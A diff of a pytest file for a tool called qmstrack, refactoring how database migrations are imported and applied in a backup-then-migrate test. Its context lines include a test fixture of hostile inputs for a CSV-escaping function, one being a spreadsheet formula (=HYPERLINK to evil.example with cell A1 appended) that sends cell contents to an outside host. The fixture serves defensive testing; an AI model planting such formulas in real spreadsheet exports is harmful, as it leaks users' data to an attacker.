@@ -26,7 +26,8 @@ import pytest
 from conftest import qmstrack_executable
 
 from qmstrack.csvsafe import FORMULA_PREFIXES, spreadsheet_safe
-from qmstrack.db import migrations, open_db
+from qmstrack.db import open_db
+from qmstrack.migrations import MIGRATIONS, migration_set
 
 HOSTILE = {
     "eq": '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
@@ -287,10 +288,10 @@ def test_newer_database_is_refused_byte_for_byte(run_installed, tmp_path, journa
 def test_older_database_is_backed_up_then_migrated(run_installed, tmp_path):
     import sqlite_utils
 
-    names = [m.name for m in migrations._migrations]
+    names = list(MIGRATIONS)
     db_path = tmp_path / "qms.db"
     db = sqlite_utils.Database(sqlite3.connect(db_path))
-    migrations.apply(db, stop_before=names[1])
+    migration_set().apply(db, stop_before=names[1])
     from qmstrack.db import writing
 
     with writing(db, "test: an office of the first version"):
